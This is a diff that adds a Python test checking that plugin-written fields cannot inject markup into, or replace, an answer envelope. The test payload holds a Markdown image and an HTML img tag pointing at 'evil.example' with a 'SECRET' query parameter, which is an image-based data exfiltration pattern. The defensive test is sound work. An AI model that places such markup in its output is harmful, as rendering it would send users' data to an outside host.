@@ -184,6 +184,28 @@ def test_a_seal_that_is_missing_is_found() -> None:
     assert problems(document) == ["seal"]
 
 
+EVIL = "ZORK ![x](https://evil.example/?d=SECRET) <img src=//evil.example>"
+
+
+def test_nothing_that_a_plugin_writes_is_markup_or_stands_in_the_answer() -> None:
+    outcome, _ = saved()
+    envelope = json.loads(msgspec.json.encode(ask_envelope(Success(outcome))))
+    tried = 0
+
+    for path in leaves(envelope["data"], ("data",)):
+        for change in (lambda _: EVIL, lambda value: [value, EVIL]):
+            written = changed(envelope, path, change)
+            replaced = check_replaced_answer(written, "Why?", (), [Original(envelope, outcome)])
+            if isinstance(replaced, Failure):
+                continue
+            tried += 1
+            data = cast("dict[str, Any]", replaced.unwrap().envelope["data"])
+            assert "ZORK" not in data["answer"], path
+            assert "](" not in json.dumps(data), path
+            assert "<img" not in json.dumps(data), path
+    assert tried > 20
+
+
 def test_doubled_name_is_refused() -> None:
     """A reader that takes the first value would show another claim than the one that was verified."""
     outcome, _ = saved()
